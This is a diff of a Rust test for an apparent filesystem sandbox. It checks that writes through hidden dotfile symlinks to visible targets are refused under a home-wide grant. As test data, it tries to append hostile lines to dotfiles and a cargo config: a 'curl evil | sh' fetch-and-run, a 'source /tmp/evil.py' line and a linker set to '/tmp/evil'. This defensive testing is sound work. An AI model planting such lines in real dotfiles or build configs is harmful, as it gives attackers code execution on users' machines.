@@ -2719,10 +2719,12 @@ fn moves_a_folder_with_hidden_entries_under_a_granted_hidden_folder_and_into_its
 /// (`a_symlinked_never_place_protects_its_target` in `contain.rs`); the hidden rule has no
 /// such step. Also a project's hidden folder that is a symlink to a shared visible one
 /// (`proj/.cargo` -> `../shared-cargo`), written through the hidden name. Principle: what
-/// a hidden entry is (the file the tool loads through it) is protected with it. Control: a
-/// hidden regular file beside it is refused. Expected to get out.
+/// a hidden entry is (the file the tool loads through it) is protected with it. Closed: at
+/// session start the daemon marks the target of every hidden symlink (and, in the home, of
+/// every symlink in a hidden folder) `NEVER_HIDDEN`, and the walk treats a marked object as
+/// a hidden entry: a grant above it does not reach it. Controls: a hidden regular file
+/// beside it is refused; a visible file beside the target is written.
 #[test]
-#[ignore = "open route: the rule sees the names on the way up from the target; a hidden symlink to a visible file (a dotfiles manager's layout) is not seen"]
 fn writes_a_symlinked_dotfile_through_its_visible_target_under_a_home_grant() {
     let mut c = Cleanup::default();
     let n = uniq();
@@ -2744,6 +2746,8 @@ fn writes_a_symlinked_dotfile_through_its_visible_target_under_a_home_grant() {
     udir(dots.join("proj").to_str().unwrap());
     std::os::unix::fs::symlink("../shared-cargo", &proj_cargo).unwrap();
     chown(&proj_cargo);
+    let notes = dots.join("notes");
+    ufile(notes.to_str().unwrap(), "todo\n");
     let mut red = Red::start("dot-symlink");
     red.grant(Path::new(HOME), Scope::Subtree, &Access::ALL);
     let r = red.gated(|| {
@@ -2752,9 +2756,12 @@ fn writes_a_symlinked_dotfile_through_its_visible_target_under_a_home_grant() {
             append(&link, "source /tmp/evil.py\n"),
             append(&target, "shell curl evil | sh\n"),
             append(&proj_cargo.join("config.toml"), "[target.x86_64-unknown-linux-gnu]\nlinker = \"/tmp/evil\"\n"),
+            append(&notes, "more\n"), // control: a visible file no hidden entry names
         ]
     });
     assert_eq!(r[0], EACCES, "control: a hidden regular file in the home");
+    assert_eq!(r[4], 0, "control: the home grant writes a visible file beside the target");
+    assert_eq!(&r[1..4], &[EACCES; 3], "the dotfile through its link and its target, the shared .cargo: {r:?}");
     assert_eq!(
         std::fs::read_to_string(&shared).unwrap(),
         "[build]\n",
